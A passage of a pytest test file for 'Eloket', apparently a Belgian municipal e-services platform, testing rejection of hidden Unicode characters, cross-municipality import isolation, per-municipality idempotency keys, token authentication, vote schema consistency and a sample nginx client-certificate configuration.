        assert Case.objects.count() == 1

    def test_an_api_token_name_and_an_order_purpose(self, client, gent, family):
        from eloket.identity.models import ApiToken

        jan = citizen_user(family["Jan"])
        headers = bearer(jan)
        before = ApiToken.objects.count()
        made = client.post(
            "/api/v1/me/tokens",
            {"name": f"script{RLO}"},
            content_type="application/json",
            **headers,
        )
        assert made.status_code == 400 and made.json()["code"] == "invalid_characters"
        assert ApiToken.objects.count() == before
        from eloket.certificates.services import OrderRequest, order_submit
        from eloket.common.text import HiddenCharacter

        with pytest.raises(HiddenCharacter):
            order_submit(
                actor=citizen_actor_of(jan),
                municipality=gent,
                order_request=OrderRequest(
                    certificate_type="residence",
                    subject=family["Jan"].national_id,
                    language="nl",
                    delivery="download",
                    purpose=f"Voor de {RLO}kerk",
                ),
            )

    def test_register_names_at_import(self, gent, tmp_path):
        import datetime as dt
        import json

        from eloket.common.actors import Actor
        from eloket.register.models import CivilEvent, Person
        from eloket.register.national_ids import make_belgian_number
        from eloket.register.services import ImportRejected, register_import_file

        number = make_belgian_number(dt.date(1990, 1, 2), 41)
        csv_file = tmp_path / "people.csv"
        csv_file.write_text(
            "national_number,first_names,last_name,sex,nationality\n"
            f"{number},Jan{RLO},Peeters,M,BE\n",
            encoding="utf-8",
        )
        with pytest.raises(ImportRejected) as refused:
            register_import_file(actor=Actor.system("t", gent), municipality=gent, path=csv_file)
        assert "first_names" in str(refused.value.errors[0]) and "U+202E" in str(
            refused.value.errors[0]
        )
        json_file = tmp_path / "people.json"
        person = {
            "national_number": number,
            "first_names": "Jan",
            "last_name": "Peeters\x00",
            "sex": "M",
            "nationality": "BE",
        }
        event = {
            "kind": "birth",
            "act_number": "B1",
            "date": "1990-01-02",
            "place": "Gent\u2066",
            "registering_municipality": "Gent",
            "persons": [{"national_number": number, "role": "subject"}],
        }
        json_file.write_text(json.dumps({"persons": [person], "events": [event]}))
        with pytest.raises(ImportRejected) as refused:
            register_import_file(actor=Actor.system("t", gent), municipality=gent, path=json_file)
        messages = " ".join(e.message for e in refused.value.errors)
        assert "U+0000 NUL" in messages and "U+2066" in messages
        assert not Person.objects.exists() and not CivilEvent.objects.exists()

    def test_the_api_schema_says_so(self, client, db):
        """A client generated from the schema knows which texts are refused (and a
        schema-driven test tool does not send them expecting acceptance)."""
        from eloket.common.text import FREE_TEXT_PATTERN

        schemas = client.get("/api/v1/openapi.json").json()["components"]["schemas"]
        for name, field in [
            ("TokenIn", "name"),
            ("OpinionIn", "text"),
            ("PetitionIn", "title"),
            ("PetitionIn", "text"),
            ("RequestStartIn", "text"),
            ("RequestActionIn", "reason"),
            ("OrderIn", "purpose"),
            ("DecisionIn", "reason"),
            ("LookupIn", "purpose"),
        ]:
            assert schemas[name]["properties"][field]["pattern"] == FREE_TEXT_PATTERN, name
        title = schemas["TopicIn"]["properties"]["title"]["additionalProperties"]
        assert title["pattern"] == FREE_TEXT_PATTERN

    def test_a_municipality_name(self, gent):
        from django.core.exceptions import ValidationError

        gent.names = {"nl": f"Stad {RLO}tneG"}
        with pytest.raises(ValidationError, match="U\\+202E"):
            gent.full_clean()


class TestImportsStayInTheirMunicipality:
    """Gent's register import named a Brugge resident's national number in a civil event:
    the event was written with Gent's key on Brugge's person, and Brugge's resident had a
    marriage in their record that Brugge never registered."""

    def test_an_event_about_a_resident_of_another_municipality_is_refused(
        self, gent, brugge, add_people, tmp_path
    ):
        import datetime as dt
        import json

        from conftest import person_record
        from eloket.common.actors import Actor
        from eloket.register.models import CivilEvent, CivilEventParticipant, Person
        from eloket.register.national_ids import make_belgian_number
        from eloket.register.services import ImportRejected, register_import_file

        add_people(brugge, person_record(dt.date(1980, 1, 1), 70, first="Bruggeling"))
        bruggeling = Person.objects.get(municipality=brugge)
        groom = make_belgian_number(dt.date(1979, 4, 5), 71)
        attack = tmp_path / "gent.json"
        attack.write_text(
            json.dumps(
                {
                    "persons": [
                        {
                            "national_number": groom,
                            "first_names": "Gentenaar",
                            "last_name": "Peeters",
                            "sex": "M",
                            "nationality": "BE",
                        }
                    ],
                    "events": [
                        {
                            "kind": "marriage",
                            "act_number": "M2020/1",
                            "date": "2020-06-06",
                            "place": "Gent",
                            "registering_municipality": "Gent",
                            "persons": [
                                {"national_number": groom, "role": "spouse"},
                                {"national_number": bruggeling.national_id, "role": "spouse"},
                            ],
                        }
                    ],
                }
            )
        )
        with pytest.raises(ImportRejected) as refused:
            register_import_file(actor=Actor.system("t", gent), municipality=gent, path=attack)
        assert [e.message for e in refused.value.errors] == [
            f"Person {bruggeling.national_id} is not in this file or in this municipality's "
            "register."
        ]
        assert not CivilEvent.objects.exists() and not CivilEventParticipant.objects.exists()
        assert not Person.objects.filter(municipality=gent).exists()
        bruggeling.refresh_from_db()
        assert bruggeling.municipality_id == brugge.pk

    def test_the_writer_finds_no_one_elsewhere_either(self, gent, brugge, add_people):
        """Records that skipped validation (a caller of the writer) still cannot reach
        another municipality's people: the writer looks them up in its own register."""
        import datetime as dt

        from conftest import person_record
        from eloket.common.errors import ApplicationError
        from eloket.register.models import Person
        from eloket.register.records import EventRecord
        from eloket.register.services import _records_write

        add_people(brugge, person_record(dt.date(1980, 1, 1), 70, first="Bruggeling"))
        bruggeling = Person.objects.get(municipality=brugge)
        event = EventRecord(
            kind="death",
            act_number="D1",
            date=dt.date(2024, 1, 1),
            place="Gent",
            registering_municipality="Gent",
            participants=[(bruggeling.national_id, "subject")],
        )
        with pytest.raises(ApplicationError, match="not in this file or in this municipality"):
            _records_write(municipality=gent, persons=[], events=[event])
        assert not bruggeling.civil_events.exists()


class TestIdempotencyKeysPerMunicipality:
    """Jan ordered at Gent with `Idempotency-Key: k-1`. The same request to Brugge's
    endpoint was answered from Gent's order: the service handed back Gent's case, and only
    the endpoint's last look-up (in Brugge) turned it into a 404 instead of Brugge's own
    answer. Any other order at Brugge with that key was refused 409 "already used"."""

    BODY = {"certificate_type": "residence", "language": "nl", "delivery": "download"}

    def send(self, client, slug, headers, **changes):
        return client.post(
            f"/api/v1/m/{slug}/orders",
            {**self.BODY, **changes},
            content_type="application/json",
            HTTP_ACCEPT_LANGUAGE="en",
            **headers,
        )

    def test_the_same_key_at_another_municipality_is_another_request(
        self, client, gent, brugge, family, seals
    ):
        from eloket.cases.models import Case, IdempotencyRecord

        jan = family["Jan"]
        headers = {**bearer(citizen_user(jan)), "HTTP_IDEMPOTENCY_KEY": "k-1"}
        with TestCase.captureOnCommitCallbacks(execute=True):
            first = self.send(client, "gent", headers, subject=jan.national_id)
        assert first.status_code == 201, first.content
        gents = first.json()["tracking_code"]
        # The same request at Brugge: judged there (Jan is not in Brugge's register).
        elsewhere = self.send(client, "brugge", headers, subject=jan.national_id)
        assert elsewhere.status_code == 403, elsewhere.content
        assert gents not in elsewhere.content.decode()
        assert elsewhere.json()["code"] == "not_allowed_for_subject"
        # Another request with that key at Brugge is no "key reused" conflict either.
        other = self.send(client, "brugge", headers, subject=jan.national_id, language="fr")
        assert other.status_code == 403 and other.json()["code"] != "idempotency_key_reused"
        # At Gent the key still means Gent's order.
        again = self.send(client, "gent", headers, subject=jan.national_id)
        assert again.status_code == 200 and again.json()["tracking_code"] == gents
        assert Case.objects.count() == 1
        assert IdempotencyRecord.objects.get().municipality_id == gent.pk

    def test_one_key_may_be_recorded_in_two_municipalities(self, gent, brugge, family, seals):
        from eloket.cases.models import IdempotencyRecord

        case = place_order(gent, citizen_user(family["Jan"]), family["Jan"])
        for municipality in (gent, brugge):
            IdempotencyRecord.objects.create(
                municipality=municipality,
                user_id=case.requester_id,
                key="k-2",
                fingerprint="f",
                case=case,
            )
        assert IdempotencyRecord.objects.filter(key="k-2").count() == 2


@pytest.mark.django_db(transaction=True)
def test_keys_recorded_before_belong_to_their_orders_municipality():
    """The migration gives every key recorded before it its case's municipality."""
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor
    from django.utils import timezone

    before = [("cases", "0006_case_type_audience")]
    after = [("cases", "0007_idempotency_per_municipality")]
    executor = MigrationExecutor(connection)
    executor.migrate(before)
    old = executor.loader.project_state(before).apps
    municipality = old.get_model("tenants", "Municipality").objects.create(
        slug="gent", names={"nl": "Gent"}, country="BE", nis_code="44021", languages=["nl"]
    )
    user = old.get_model("auth", "User").objects.create(username="citizen-jan")
    case_type = old.get_model("cases", "CaseType").objects.create(
        municipality=municipality, code="certificate_order", names={"en": "x"}, definition={}
    )
    case = old.get_model("cases", "Case").objects.create(
        municipality=municipality,
        case_type=case_type,
        kind="certificate_order",
        tracking_code="BCDFGH23",
        status="submitted",
        requester=user,
        language="nl",
        title="x",
        due_at=timezone.now(),
    )
    old.get_model("cases", "IdempotencyRecord").objects.create(
        user=user, key="k", fingerprint="f", case=case
    )
    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    executor.migrate(after)
    new = executor.loader.project_state(after).apps
    record = new.get_model("cases", "IdempotencyRecord").objects.get()
    assert record.municipality_id == municipality.pk
    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    executor.migrate(executor.loader.graph.leaf_nodes())


class TestAnInvalidTokenIsNotAuthenticated:
    """A script whose token was revoked (or expired, or mistyped) posted and was answered
    403 "CSRF check Failed": the session fallback ran Django's CSRF check, and the script
    was told about a browser's cookie instead of its token."""

    def test_a_revoked_token_on_a_post_answers_401(self, family, forum_topic):
        from django.test import Client
        from django.utils import timezone

        from eloket.identity.models import ApiToken

        client = Client(enforce_csrf_checks=True)  # as in production
        jan = citizen_user(family["Jan"])
        headers = bearer(jan)
        ApiToken.objects.filter(user=jan).update(revoked_at=timezone.now())
        url = f"/api/v1/m/gent/forum/topics/{forum_topic.pk}/opinions"
        for method, path in [
            ("post", url),
            ("post", "/api/v1/me/tokens"),
            ("delete", "/api/v1/me/tokens/1"),
        ]:
            answer = getattr(client, method)(
                path, {"text": "x", "name": "x"}, content_type="application/json", **headers
            )
            assert answer.status_code == 401, (path, answer.content)
            assert answer.json()["code"] == "not_authenticated"
        garbage = client.post(
            url, {"text": "x"}, content_type="application/json", HTTP_AUTHORIZATION="Bearer elk_x"
        )
        assert garbage.status_code == 401 and garbage.json()["code"] == "not_authenticated"

    def test_a_token_is_judged_alone_even_beside_a_session(self, family, forum_topic):
        """A browser session does not make up for a bad token sent with it; without a token
        the session still needs its CSRF token on a POST."""
        from django.test import Client

        jan = citizen_user(family["Jan"])
        browser = Client(enforce_csrf_checks=True)
        browser.force_login(jan)
        url = f"/api/v1/m/gent/forum/topics/{forum_topic.pk}/opinions"
        bad = browser.post(
            url, {"text": "x"}, content_type="application/json", HTTP_AUTHORIZATION="Bearer elk_x"
        )
        assert bad.status_code == 401
        no_csrf = browser.post(url, {"text": "Meer bomen"}, content_type="application/json")
        assert no_csrf.status_code == 403
        good = browser.post(
            url, {"text": "Meer bomen"}, content_type="application/json", **bearer(jan)
        )
        assert good.status_code == 201

    def test_nobody_at_all_is_told_to_log_in(self, client, forum_topic):
        url = f"/api/v1/m/gent/forum/topics/{forum_topic.pk}/opinions"
        from django.test import Client

        answer = Client(enforce_csrf_checks=True).post(
            url, {"text": "x"}, content_type="application/json"
        )
        assert answer.status_code == 401 and answer.json()["code"] == "not_authenticated"


class TestTheVoteApiIsWhatItsSchemaSays:
    """The forum API answered an opinion's pass count as `pass_` (a Python name) beside
    `agree` and `disagree`, and its vote took any string, refusing what the schema did not
    list only by prose: a client generated from the schema could not know either."""

    def test_answers_and_schema_agree(self, client, family, forum_topic):
        import jsonschema

        opinion = forum_post(forum_topic, family["Jan"], "Meer bomen")
        sofie = bearer(citizen_user(family["Sofie"]))
        schema = client.get("/api/v1/openapi.json").json()
        components = schema["components"]["schemas"]
        vote_in = components["VoteIn"]["properties"]["vote"]
        assert vote_in["enum"] == ["agree", "disagree", "pass"]
        opinion_out = components["OpinionOut"]
        assert "pass" in opinion_out["properties"] and "pass_" not in opinion_out["properties"]
        resolver = {"components": schema["components"], **opinion_out}
        url = f"/api/v1/m/gent/forum/opinions/{opinion.pk}/vote"
        for word in ("agree", "disagree", "pass"):
            cast = client.post(url, {"vote": word}, content_type="application/json", **sofie)
            assert cast.status_code == 200, cast.content
            body = cast.json()
            jsonschema.validate(body, resolver)
            assert set(body) == set(opinion_out["properties"]) and body["my_vote"] == word
        assert body["pass"] == 1 and (body["agree"], body["disagree"]) == (0, 0)
        for not_listed in ("PASS", "skip", "0", 0, None):
            refused = client.post(
                url, {"vote": not_listed}, content_type="application/json", **sofie
            )
            assert refused.status_code == 422 and refused.json()["code"] == "invalid_input"
        listed = client.get(f"/api/v1/m/gent/forum/topics/{forum_topic.pk}/opinions", **sofie)
        item = listed.json()["results"][0]
        assert item["pass"] == 1 and "pass_" not in item and item["my_vote"] == "pass"
        one = client.get(f"/api/v1/m/gent/forum/opinions/{opinion.pk}").json()
        assert one["pass"] == 1 and "pass_" not in one
        withdrawn = client.delete(url, **sofie).json()
        assert withdrawn["pass"] == 0 and "pass_" not in withdrawn


# The sample nginx configuration: it asked every browser for a client certificate on every
# page (`ssl_verify_client` on the whole server), missed the card login on municipalities'
# own host names, and let bodies through that Eloket refuses anyway.


def repository():
    from pathlib import Path

    return Path(__file__).resolve().parents[1]


NGINX_SAMPLE = repository() / "deploy" / "nginx.conf.example"
NAMES = ["eloket.example.be", "loket.gent.example", "loket.brugge.example"]
CARD_LOGIN = "location ~ ^(/[a-z][a-z0-9-]*)?/login/eid-card$"


def nginx_or_skip() -> str:
    import re
    import shutil
    import subprocess

    nginx = shutil.which("nginx") or shutil.which("nginx", path="/usr/sbin:/usr/local/sbin")
    if nginx is None:
        pytest.skip("nginx is not installed: deploy/nginx.conf.example was not checked")
    version = subprocess.run([nginx, "-v"], capture_output=True, text=True).stderr
    found = re.search(r"nginx/(\d+)\.(\d+)\.(\d+)", version)
    if not found or tuple(map(int, found.groups())) < (1, 19, 5):
        pytest.skip(f"checking the sample needs nginx 1.19.5 or newer (-e), not {version}")
    return nginx


def pem_key(issued) -> bytes:
    from cryptography.hazmat.primitives import serialization

    return issued.key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )


def nginx_files(folder, sample: str, *, upstream: int = 8000):
    """The sample inside a configuration of its own, with certificates made here; returns
    the configuration's path and the citizen CA (the one the card port names)."""
    from pki import make_ca

    site, citizen_ca = make_ca("eloket.example.be"), make_ca("Citizen CA")
    (folder / "fullchain.pem").write_text(site.pem)
    (folder / "privkey.pem").write_bytes(pem_key(site))
    (folder / "eid-ca.pem").write_text(citizen_ca.pem)
    sample = sample.replace("/etc/ssl/eloket/", f"{folder}/")
    sample = sample.replace("server 127.0.0.1:8000;", f"server 127.0.0.1:{upstream};")
    (folder / "eloket.conf").write_text(sample)
    temp = "".join(
        f"    {kind}_temp_path {folder}/{kind};\n"
        for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    )
    wrapper = folder / "nginx.conf"
    wrapper.write_text(
        f"pid {folder}/nginx.pid;\nerror_log {folder}/error.log;\n"
        "daemon off;\nmaster_process off;\nevents {}\n"
        f"http {{\n{temp}    access_log off;\n    include {folder}/eloket.conf;\n}}\n"
    )
    return wrapper, citizen_ca


def sample_servers() -> list[str]:
    import re

    text = re.sub(r"#.*", "", NGINX_SAMPLE.read_text())
    return re.split(r"\bserver\s*\{", text)[1:]


class TestTheSampleNginxConfiguration:
    def test_it_is_valid_nginx(self, tmp_path):
        import subprocess

        nginx = nginx_or_skip()
        wrapper, _ca = nginx_files(tmp_path, NGINX_SAMPLE.read_text())
        log, prefix = str(tmp_path / "error.log"), str(tmp_path)
        checked = subprocess.run(
            [nginx, "-t", "-q", "-e", log, "-p", prefix, "-c", str(wrapper)],
            capture_output=True,
            text=True,
            timeout=30,
        )
        assert checked.returncode == 0, checked.stderr

    def test_it_asks_for_a_certificate_on_the_card_login_only(self):
        """Read without nginx: which server asks, for which paths and host names."""
        servers = sample_servers()
        asking = [server for server in servers if "ssl_verify_client" in server]
        assert len(asking) == 1 and "listen 8443 ssl;" in asking[0]
        assert "ssl_verify_client optional_no_ca;" in asking[0]
        # It passes on the card login (with and without /<slug>) and what its page loads.
        assert asking[0].count("proxy_pass") == 2 and CARD_LOGIN in asking[0]
        assert "limit_except GET { deny all; }" in asking[0]
        assert sum(server.count("$ssl_client_escaped_cert") for server in servers) == 1
        for server in servers:
            assert all(name in server for name in NAMES), "municipalities' own hosts too"
            if "proxy_pass" in server and server is not asking[0]:
                assert 'proxy_set_header X-SSL-Client-Cert "";' in server

    def test_its_body_limit_is_the_applications(self, settings):
        import re

        from eloket.common.uploads import ENVELOPE_BYTES
        from eloket.forum.services.topics import MAX_ATTACHMENT

        main = next(server for server in sample_servers() if "listen 443 ssl;" in server)
        limit = re.search(r"^    client_max_body_size (\d+)m;", main, flags=re.M)
        assert limit, "a client_max_body_size for the whole server"
        largest = max(
            settings.DATA_UPLOAD_MAX_MEMORY_SIZE, settings.ELOKET_UPLOAD_MAX_BYTES, MAX_ATTACHMENT
        )
        # The application's limit and room for the multipart envelope, not more than 1 MB.
        assert largest < int(limit.group(1)) * 1024 * 1024 <= largest + ENVELOPE_BYTES
        # The Polis imports, the admin's register upload and a request's files: their
        # own limits, with the same room.
        sizes = [
            int(size) * 1024 * 1024 for size in re.findall(r"client_max_body_size (\d+)m;", main)
        ]
        own_limits = (
            settings.ELOKET_POLIS_UPLOAD_MAX_BYTES,
            settings.ELOKET_REGISTER_UPLOAD_MAX_BYTES,
            settings.ELOKET_ATTACHMENTS_UPLOAD_MAX_BYTES,
        )
        assert all(
            any(own < size <= own + ENVELOPE_BYTES for own in own_limits)
            for size in sizes
            if size > largest + ENVELOPE_BYTES
        )
        assert len(sizes) == 6

    def test_the_docs_point_to_it(self):
        docs = repository() / "docs"
        identity = (docs / "identity.md").read_text()
        assert "deploy/nginx.conf.example" in identity
        assert "deploy/nginx.conf.example" in (docs / "configuration.md").read_text()
        assert "ssl_verify_client optional_no_ca;   # Eloket" not in identity  # the old one

    def test_run_as_written(self, tmp_path):
        """nginx itself, on 127.0.0.1 with the test's own ports, in front of a server that
        answers with the headers it received."""
        import http.client
        import json
        import shutil
        import socket
        import ssl
        import subprocess
        import threading
        import time
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        from pki import make_citizen

        nginx = nginx_or_skip()

        class Echo(BaseHTTPRequestHandler):
            def do_GET(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                body = json.dumps(dict(self.headers)).encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        def free_port():
            with socket.socket() as probe:
                probe.bind(("127.0.0.1", 0))
                return probe.getsockname()[1]

        upstream = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
        threading.Thread(target=upstream.serve_forever, daemon=True).start()
        main, card, plain = free_port(), free_port(), free_port()
        sample = NGINX_SAMPLE.read_text()
        for was, now in [
            ("listen 80;", f"listen 127.0.0.1:{plain};"),
            ("listen 443 ssl;", f"listen 127.0.0.1:{main} ssl;"),
            ("listen 8443 ssl;", f"listen 127.0.0.1:{card} ssl;"),
            ("$host:8443", f"$host:{card}"),
        ]:
            assert was in sample
            sample = sample.replace(was, now)
        sample = "\n".join(line for line in sample.splitlines() if "listen [::]" not in line)
        wrapper, citizen_ca = nginx_files(tmp_path, sample, upstream=upstream.server_address[1])
        citizen = make_citizen(citizen_ca, national_number="85073003328")
        (tmp_path / "citizen.pem").write_text(citizen.pem)
        (tmp_path / "citizen.key").write_bytes(pem_key(citizen))
        server = subprocess.Popen(
            [nginx, "-e", str(tmp_path / "error.log"), "-p", str(tmp_path), "-c", str(wrapper)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )

        def ask(port, path, *, name="eloket.example.be", cert=False, body=None, **headers):
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            if cert:
                context.load_cert_chain(tmp_path / "citizen.pem", tmp_path / "citizen.key")
            connection = http.client.HTTPSConnection("127.0.0.1", port, context=context)
            connection.request(
                "POST" if body else "GET", path, body=body, headers={"Host": name, **headers}
            )
            answer = connection.getresponse()
            return answer.status, answer.getheader("Location"), answer.read()

        try:
            for _ in range(200):
                if server.poll() is not None:
                    pytest.fail(f"nginx did not start: {server.stderr.read().decode()}")
                try:
                    socket.create_connection(("127.0.0.1", card), timeout=1).close()
                    break
                except OSError:
                    time.sleep(0.05)
            # The main port passes no certificate header on, whatever the browser sent.
            status, _where, body = ask(main, "/gent/my/", **{"X-SSL-Client-Cert": "forged"})
            assert status == 200 and "X-SSL-Client-Cert" not in json.loads(body)
            # The card login, on the platform's host and on a municipality's own, moves to
            # the card port, and only there is the card's certificate passed on.
            for name, path in [
                ("eloket.example.be", "/gent/login/eid-card?next=/gent/my/"),
                ("loket.gent.example", "/login/eid-card"),
            ]:
                status, where, _body = ask(main, path, name=name)
                assert (status, where) == (302, f"https://{name}:{card}{path}")
                status, _where, body = ask(card, path, name=name, cert=True)
                forwarded = json.loads(body)["X-SSL-Client-Cert"]
                assert status == 200 and forwarded.startswith("-----BEGIN%20CERTIFICATE-----")
                status, _where, body = ask(card, path, name=name, **{"X-SSL-Client-Cert": "x"})
                assert status == 200 and "X-SSL-Client-Cert" not in json.loads(body)
            status, where, _body = ask(card, "/gent/my/")
            assert (status, where) == (301, "https://eloket.example.be/gent/my/")
            for asset in ("/static/eloket/base.css", "/gent/theme.css", "/logo"):
                status, _where, body = ask(card, asset, cert=True)
                assert status == 200 and "X-SSL-Client-Cert" not in json.loads(body)
            assert ask(card, "/gent/logo", body=b"x")[0] == 403
            # Bodies: what Eloket accepts passes; more is refused here.
            assert ask(main, "/api/v1/verify", body=b"x" * 5_500_000)[0] == 200
            assert ask(main, "/api/v1/verify", body=b"x" * 7_000_000)[0] == 413
            polis = "/api/v1/m/gent/forum/import-polis"
            assert ask(main, polis, body=b"x" * 7_000_000)[0] == 200
            # Only the card port asks for a certificate (when openssl is there to tell).
            openssl = shutil.which("openssl")
            for port, asks in [(main, False), (card, True)] if openssl else []:
                address = f"127.0.0.1:{port}"
                said = subprocess.run(
                    [openssl, "s_client", "-connect", address, "-servername", NAMES[0]],
                    input="",
                    capture_output=True,
                    text=True,
                    timeout=20,
                ).stdout
                assert ("Acceptable client certificate CA names" in said) is asks, said
        finally:
            server.terminate()
            server.wait(timeout=10)
            upstream.shutdown()
